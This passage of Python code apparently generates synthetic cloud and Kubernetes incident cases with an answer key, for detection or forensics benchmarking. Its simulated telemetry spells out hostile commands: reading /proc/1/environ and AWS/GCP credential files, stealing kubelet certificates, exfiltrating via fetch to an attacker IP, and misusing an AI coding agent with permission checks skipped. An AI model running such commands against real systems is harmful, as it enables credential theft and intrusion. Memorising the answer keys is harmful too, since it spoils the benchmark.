            self.ctx(tb, self.user_ident(dev), "codeartifact", "GetAuthorizationToken", n["nat"],
                     "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.92 exe/x86_64.amzn.2023 command/codeartifact.login")
        t = self.T0
        tel = self.run(p["app"], "/usr/bin/node", "node_modules/nx/src/telemetry.js", t)
        sh = self.run(tel, "/bin/sh", "-c 'env; cat /proc/1/environ'", t + 0.5)
        self.run(sh, "/usr/bin/env", "", t + 0.51)
        c = self.run(sh, "/bin/cat", "/proc/1/environ", t + 0.52)
        self.file_read(c, t + 0.53, "/proc/1/environ",
                       falco_rule=("Read environment variable from /proc files", "Warning",
                                   ["T1083", "container", "filesystem", "maturity_incubating", "mitre_discovery", "process"],
                                   "Environment variables were retrieved from /proc files"))
        f = self.run(sh, "/usr/bin/find", "/ -path */.aws/credentials", t + 2)
        if self.has("falco"):
            falco(self.o, t + 2.01, "Find AWS Credentials", "Warning",
                  ["T1552", "container", "maturity_stable", "mitre_credential_access", "process"], f,
                  "Find AWS Credentials", {"evt.type": "execve"})
        c2 = self.run(sh, "/bin/cat", "/srv/agents/.aws/credentials", t + 4)
        self.file_read(c2, t + 4.01, "/srv/agents/.aws/credentials", watch_key="agent_aws_creds")
        self.run(tel, "/usr/local/bin/claude", "--dangerously-skip-permissions -p 'You are a file-search agent'", t + 6)
        self.run(sh, "/usr/bin/trufflehog", "filesystem /", t + 9)
        src = self.att_ip
        ex = self.run(tel, "/usr/bin/node", "-e fetch('https://%s/x')" % src, t + 15)
        self.connect(ex, t + 15, p["ip"], src, 443)
        key = dev["keys"][0][0]
        ident = self.user_ident(dev, key)
        tu = t + r.uniform(120, 900)
        ua = "TruffleHog aws-sdk-go/1.55.5 (go1.22.5; linux; amd64)"
        self.ctx(tu, ident, "sts", "GetCallerIdentity", src, ua)
        for i, reg in enumerate(r.sample(REGIONS, 4)):
            self.ctx(tu + 20 + i * 9, ident, "secretsmanager", "ListSecrets", src, self.att_ua, region=reg,
                     err="AccessDeniedException" if i == 3 else None)
            self.ctx(tu + 24 + i * 9, ident, "secretsmanager", "GetSecretValue", src, self.att_ua, region=reg,
                     req={"secretId": "dev/%s" % r.choice(["npm", "pypi", "db", "openai"])})
        self.cred("aws", key, dev["arn"], True, ("user", "dev-sandbox"))
        self.secret_exposed(s_aws, used=True)
        if r.random() < 0.5:
            self.s8_gcp(p, sh, t + 5, tu + 300, src)
        if self.credmap is not None:
            self.cred("github", gh_id, "acme-agent-bot", True, ("github", "acme-agent-bot"))
            self.cred("anthropic", llm_id, "acme-agents", True, ("anthropic", "acme-agents"))

    def s8_gcp(self, p, sh, t, tu, src):
        """S8 variant: a GCP service-account key file bind-mounted into the
        sandbox, read, then used from outside (GCP audit, Data Access)."""
        r = self.r
        proj = r.choice(["acme-dev", "acme-sandbox", "agents-" + r.k8s(4)])
        sa = "%s@%s.iam.gserviceaccount.com" % (r.choice(["dev-sandbox", "agent-runner", "ci-agent"]), proj)
        kid = r.hexs(40)
        kname = "//iam.googleapis.com/projects/%s/serviceAccounts/%s/keys/%s" % (proj, sa, kid)
        self.gcp_keys = [{"keyAlgorithm": "KEY_ALG_RSA_2048", "keyOrigin": "GOOGLE_PROVIDED", "keyType": "USER_MANAGED",
                          "name": "projects/%s/serviceAccounts/%s/keys/%s" % (proj, sa, kid),
                          "validAfterTime": iso(self.S - 40 * DAY, 0), "validBeforeTime": "9999-12-31T23:59:59Z"}]
        p["hostpaths"].append("/srv/agents/.config/gcloud")
        path = "/srv/agents/.config/gcloud/application_default_credentials.json"
        if self.credmap is not None:
            self.credmap.append(("file:*:" + path, "gcp", kname, sa))
        c = self.run(sh, "/bin/cat", path, t)
        self.file_read(c, t + 0.01, path, watch_key="agent_gcp_creds")
        ua = "google-cloud-sdk gcloud/471.0.0 command/gcloud.secrets.versions.access invocation-id/%s environment/None" % r.hexs(32)
        ins = lambda: r.b62(12).lower()
        gcp(self.o, tu, ins(), proj, "google.cloud.secretmanager.v1.SecretManagerService.ListSecrets",
            "secretmanager.googleapis.com", "projects/%s" % proj, sa, kname, src, ua)
        for i in range(3):
            sec = r.choice(["github-app-key", "npm-token", "openai-key", "db-url"])
            gcp(self.o, tu + 5 + i * 3, ins(), proj, "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
                "secretmanager.googleapis.com", "projects/%s/secrets/%s/versions/latest" % (proj, sec), sa, kname, src, ua)
        gcp(self.o, tu + 20, ins(), proj, "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
            "secretmanager.googleapis.com", "projects/%s/secrets/prod-db/versions/latest" % proj, sa, kname, src, ua,
            code=7, perm="secretmanager.versions.access")
        self.cred("gcp", kname, sa, True, ("gcp", sa))
        self.variant["gcp"] = True

    def fam_s9(self):
        """S9: kubelet credentials via hostPath /var/lib/kubelet -> node impersonation."""
        self.need("tetragon", "tracee", "falco")
        r = self.r
        n = r.choice(self.nodes)
        rs = r.k8s(10)
        name = "log-shipper-%s-%s" % (rs, r.k8s(5))
        self.sas[("logging", "log-shipper")] = {"uid": r.uuid()}
        t0 = self.T0 - r.uniform(HOUR, min(self.H, 5 * DAY) * 0.9)
        p = self.new_pod(n, "logging", name, "log-shipper", "fluent/fluent-bit:3.0.7", "shipper",
                         {"app": "log-shipper", "pod-template-hash": rs}, "log-shipper", "Deployment", t0,
                         "/fluent-bit/bin/fluent-bit", "-c /fluent-bit/etc/fluent-bit.conf",
                         hostpaths=["/var/lib/kubelet", "/var/log"])
        k8s(self.o, t0 - 0.5, self.eid(), "system:serviceaccount:kube-system:replicaset-controller", "create",
            "/api/v1/namespaces/logging/pods", {"resource": "pods", "namespace": "logging", "name": name, "apiVersion": "v1"},
            "10.%d.0.10" % self.vpc, "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/2a9b0e4/system:serviceaccount:kube-system:replicaset-controller",
            201, reqobj=self.pod_obj(p, with_status=False),
            respobj={"kind": "Pod", "metadata": {"name": name, "namespace": "logging", "uid": p["uid"]}})
        self.exec_(p["app"])
        if self.has("falco"):
            falco(self.o, t0 + 0.5, "Launch Sensitive Mount Container", "Informational",
                  ["T1610", "container", "cis", "maturity_sandbox", "mitre_execution"], p["app"],
                  "Container with sensitive mount started",
                  {"evt.type": "container", "container.mounts": "/var/lib/kubelet:/var/lib/kubelet::false:rprivate"})
        self.root(p)
        t = self.T0
        sh = self.shell_rce(p["app"], t, "-c 'cat /var/lib/kubelet/kubeconfig'")
        c = self.run(sh, "/bin/cat", "/var/lib/kubelet/kubeconfig /var/lib/kubelet/pki/kubelet-client-current.pem", t + 0.2)
        for path, key in (("/var/lib/kubelet/kubeconfig", "kubelet_cfg"), ("/var/lib/kubelet/pki/kubelet-client-current.pem", "kubelet_pki")):
            self.file_read(c, t + 0.21, path, watch_key=key,
                           tracee_sig=("kubernetes_certificate_theft_attempt",
                                       trc("TRC-1018", "K8s cert theft attempt detected",
                                           "An attempt to steal Kubernetes certificates was detected.", 3,
                                           "T1552.004", "Private Keys", "Credential Access")))
        self.imds_fetch(sh, t + r.uniform(2, 10), p["ip"])
        key = self.node_cred(n, t, True)
        self.reach_extra.add(("k8s", "system:node:" + n["name"]))
        src = self.attacker_src(sh, t + 15)
        tk = t + r.uniform(60, 600)
        ua = self.att_kubectl
        ident_extra = {"accessKeyId": [key], "arn": [n["session_arn"]], "canonicalArn": [self.node_role_arn],
                       "principalId": ["%s:%s" % (self.node_role_id, n["inst"])], "sessionName": [n["inst"]]}
        nu = "system:node:" + n["name"]
        grp = ["system:nodes", "system:authenticated"]
        returned = []
        for q in n["pods"]:
            for sc in (q.get("dep") or {}).get("secrets", [])[:2]:
                k8s(self.o, tk, self.eid(), nu, "get", "/api/v1/namespaces/%s/secrets/%s" % (sc["ns"], sc["name"]),
                    {"resource": "secrets", "namespace": sc["ns"], "name": sc["name"], "apiVersion": "v1"}, src, ua, 200,
                    extra=ident_extra, groups=grp)
                returned.append(sc)
                tk += r.uniform(1, 4)
        for sc in [x for x in self.secrets.values() if x not in returned][:4]:
            k8s(self.o, tk, self.eid(), nu, "get", "/api/v1/namespaces/%s/secrets/%s" % (sc["ns"], sc["name"]),
                {"resource": "secrets", "namespace": sc["ns"], "name": sc["name"], "apiVersion": "v1"}, src, ua, 403,
                extra=ident_extra, groups=grp)
            tk += r.uniform(1, 4)
        k8s(self.o, tk + 3, self.eid(), nu, "create", "/apis/certificates.k8s.io/v1/certificatesigningrequests",
            {"resource": "certificatesigningrequests", "apiGroup": "certificates.k8s.io", "apiVersion": "v1"}, src, ua, 201,
            extra=ident_extra, groups=grp)
        k8s(self.o, tk + 6, self.eid(), nu, "get", "/api/v1/nodes/%s/proxy/pods" % n["name"],
            {"resource": "nodes", "subresource": "proxy", "name": n["name"], "apiVersion": "v1"}, src, ua, 403,
            extra=ident_extra, groups=grp)
        self.aws_recon(tk + 30, self.node_ident(n, t), src, self.att_ua)
        self.use_exposed_secrets(returned, tk + 400, src)

    def fam_s10(self):
        """S10: chained: token theft -> privileged pod -> host harvest (incl. the
        Vault agent sink of the root pod) -> node role, AKIA, Vault from the node."""
        r = self.r
        cands = [q for q in self.pods if q.get("dep") and q["vault"] and q["started"] < self.T0 - 60]
        p = r.choice(cands)
        p["dep"]["rbac_pods"] = True
        sh, jti, src, ta = self.fam_s2(p)
        self.need("tetragon", "falco", "auditd")
        ap = self.priv_pod_escape(p, ta + r.uniform(60, 300), src)
        n = ap["node"]
        if p["node"] is n:
            tv = ta + r.uniform(400, 900)
            acc = self.vault_acc_at(p, tv)
            self.vault(p, tv, "auth/token/lookup-self", "read", n["ip"], acc, mount_type="token")
            self.vault(p, tv + 4, "sys/mounts", "read", n["ip"], acc, mount_type="system", err=PERM_DENIED)
            self.vault(p, tv + 8, p["vault"]["kv"] + "/config", "read", n["ip"], acc, data_keys=["password"])
            self.vault_cred(p, acc, True)

    def use_exposed_secrets(self, secrets, t, src):
        """Secrets whose content the attacker saw: a key nothing maps must be
        used (the only way to learn it); a mapped one is used 1 in 2."""
        for s in secrets:
            if not s["holds"]:
                continue
            mapped = self.credmap is not None and (s["ns"], s["name"]) in self.mapped_secrets
            use = (not mapped) or self.r.random() < 0.5
            if use:
                u = [u for u in self.users.values() if u["arn"] == s["holds"][2]][0]
                self.aws_recon(t, self.user_ident(u, s["holds"][1]), src, self.att_ua)
                t += 200
            self.secret_exposed(s, used=use)

    # ---- the case ---------------------------------------------------------------------
    FAMILIES = ["S1", "S2", "S3", "S4", "S5", "S6", "S7", "S8", "S9", "S10"]

    def generate(self, outdir):
        r = self.r
        self.build()
        self.used_jtis = set()
        self.must, self.may = {}, {}
        self.reach_extra = set()
        self.escaped_nodes = set()
        self.variant = self.truth["variant"]
        self.vault_lookups = r.random() < 0.7
        # credential map: present in 2 cases of 3; then each AWS secret is in it 1 in 2
        self.credmap = None
        self.mapped_secrets = set()
        if r.random() < 0.67:
            self.credmap = [("file:*:/root/.aws/credentials", "aws", self.host_file_key, self.host_user["arn"])]
            for n in self.nodes:
                self.credmap.append(("imds:" + n["name"], "aws", "-", self.node_role_arn))
            for s in self.secrets.values():
                if s["holds"] and r.random() < 0.5:
                    self.credmap.append(("k8s-secret:%s/%s" % (s["ns"], s["name"]), "aws", s["holds"][1], s["holds"][2]))
                    self.mapped_secrets.add((s["ns"], s["name"]))
            self.credmap.append(("file:*:/root/.docker/config.json", "github", self.gh_pat, "acme-ci-bot"))
        # the family comes from the seed, so that consecutive seeds cover them
        # evenly: 25 residues, 5 benign-only (1 in 5), 2 for each of S1-S10
        k = self.seed % 25
        benign_only = k < 5
        self.truth["benign_only"] = benign_only
        fam = None if benign_only else self.FAMILIES[(k - 5) // 2]
        self.truth["family"] = fam
        self.benign()
        if fam:
            getattr(self, "fam_" + fam.lower())()
        # kubelet TokenRequests: every one in the last 26 h, and earlier the ones used
        for p in self.pods:
            for (t, jti) in p["tokens"]:
                if self.S <= t < self.END and (t >= self.T0 - 26 * HOUR or jti in self.used_jtis):
                    self.token_request(p, t, jti)
        self.variant.update({"sources": sorted(self.sources), "nodes": len(self.nodes),
                             "history_h": round(self.H / HOUR, 2), "tracee_format": self.tracee_style, "imds": "v2" if self.imds_v2 else "v1",
                             "credmap": self.credmap is not None, "node_trust": self.node_trust_mode,
                             "attack_time": iso(self.T0, 0)})
        self.later_may()
        self.finish_truth()
        if benign_only:
            for k in ("credentials", "credentials_may", "reachable", "reachable_may"):
                self.truth[k] = []
        os.makedirs(outdir, exist_ok=True)
        # drop runtime sources the case does not have (benign life wrote to all)
        for rel in list(self.o.files):
            src = {"logs/falco.jsonl": "falco", "logs/tetragon.jsonl": "tetragon", "logs/tracee.jsonl": "tracee",
                   "logs/auditd.log": "auditd"}.get(rel)
            if src and src not in self.sources:
                del self.o.files[rel]
        self.o.write(outdir)
        self.write_inventory(outdir)
        with open(os.path.join(outdir, "truth.json"), "w") as f:
            json.dump(self.truth, f, indent=1, sort_keys=True)
            f.write("\n")
        return self.truth


def main(argv):
    return case_main(Case, "case", "cases.py", argv)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
